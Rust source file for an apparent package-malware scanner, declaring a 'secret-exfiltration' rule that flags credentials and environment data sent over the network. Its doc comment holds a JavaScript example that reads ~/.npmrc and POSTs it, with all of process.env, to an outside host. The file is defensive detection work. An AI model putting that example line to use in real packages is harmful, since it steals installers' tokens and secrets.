use crate::Confidence::{High, Low};
use crate::Severity::{Critical, High as H};
use crate::model::declare_rule;
use crate::rules::behaviour_rule;

declare_rule! {
    /// ## What it finds
    /// Credentials, tokens, the whole environment or host details that reach a network
    /// send: an HTTP request, a socket write, or a DNS lookup whose name carries them.
    ///
    /// ## Why it matters
    /// Stealing the npm or PyPI token of whoever installs the package is how worms
    /// spread, and cloud keys and SSH keys are worth more than the machine itself. A
    /// dependency-confusion probe that sends the host name and user is malicious too.
    ///
    /// ## Example
    /// ```javascript
    /// const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    /// https.request({ hostname: 'x.oast.fun', method: 'POST' }).end(JSON.stringify({ npmrc, env: process.env }));
    /// ```
    ///
    /// ## When it is wrong
    /// Telemetry and cloud clients send tokens to their own service inside functions
    /// (runtime context, lower severity). At install or import time there is no good
    /// reason.
    SecretExfiltration {
        id: "secret-exfiltration",
        summary: "secrets are sent over the network",
        severity: Critical,
        confidence: High,
    }
}

behaviour_rule!(
    SecretExfiltration,
    SecretExfiltration,
    [Some(Critical), Some(Critical), Some(H)],
    |b| if b.context == customs_analyze::Context::Runtime {
        Low
    } else {
        High
    },
    |b| format!("{} ({})", b.detail, crate::when(b.context))
);
